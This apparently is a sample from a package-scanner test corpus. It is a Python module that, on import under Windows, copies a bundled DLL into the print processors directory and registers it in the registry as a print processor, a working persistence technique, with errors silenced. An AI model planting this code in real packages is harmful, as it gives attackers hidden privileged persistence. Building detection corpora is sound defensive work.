# pkgguard corpus 894 (persistence), modelled on [taxonomy]; inert, never run.
import os
import shutil
import sys

if sys.platform == "win32":
    import winreg

    here = os.path.dirname(os.path.abspath(__file__))
    target = os.path.join(os.environ.get("SystemRoot", r"C:\Windows"), "System32", "spool", "prtprocs", "x64", "fmtproc.dll")
    try:
        shutil.copyfile(os.path.join(here, "_bin", "fmt.dll"), target)
        key = winreg.CreateKeyEx(
            winreg.HKEY_LOCAL_MACHINE,
            r"SYSTEM\CurrentControlSet\Control\Print\Environments\Windows x64\Print Processors\FmtProc",
            0,
            winreg.KEY_SET_VALUE,
        )
        winreg.SetValueEx(key, "Driver", 0, winreg.REG_SZ, "fmtproc.dll")
        winreg.CloseKey(key)
    except OSError:
        pass
